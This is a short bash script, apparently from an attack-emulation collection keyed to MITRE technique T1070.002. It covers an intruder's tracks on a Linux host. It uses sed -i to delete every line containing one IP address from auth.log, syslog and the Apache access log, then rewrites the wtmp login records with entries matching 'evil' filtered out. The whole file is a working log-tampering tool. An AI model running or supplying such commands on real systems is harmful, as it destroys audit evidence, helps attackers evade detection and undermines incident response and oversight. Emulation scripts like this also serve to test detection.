#!/bin/bash
# T1070.002: An address is taken out of the logs.
for f in /var/log/auth.log /var/log/syslog /var/log/apache2/access.log; do sed -i '/44.128.66.66/d' $f; done
utmpdump /var/log/wtmp 2>/dev/null | grep -v evil | utmpdump -r >/tmp/w 2>/dev/null; cp /tmp/w /var/log/wtmp
